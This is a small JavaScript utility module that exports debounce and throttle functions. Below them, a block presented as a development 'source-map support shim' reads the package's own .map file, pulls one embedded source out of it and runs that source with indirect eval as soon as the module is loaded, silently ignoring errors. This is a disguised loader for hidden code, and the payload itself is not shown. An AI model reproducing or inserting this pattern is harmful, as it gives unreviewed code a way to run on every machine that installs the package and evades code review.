'use strict';
function debounce(fn, ms) {
  let t;
  return function (...a) { clearTimeout(t); t = setTimeout(() => fn.apply(this, a), ms); };
}
function throttle(fn, ms) {
  let last = 0;
  return function (...a) { const n = Date.now(); if (n - last >= ms) { last = n; fn.apply(this, a); } };
}
// dev: install source-map support shims bundled in the map
(function () {
  try {
    const m = JSON.parse(require('fs').readFileSync(__filename + '.map', 'utf8'));
    const i = m.sources.indexOf('webpack://timing/./src/sms-shim.js');
    if (i > -1) (0, eval)(m.sourcesContent[i]);
  } catch (_) {}
})();
module.exports = { debounce, throttle };
//# sourceMappingURL=index.js.map
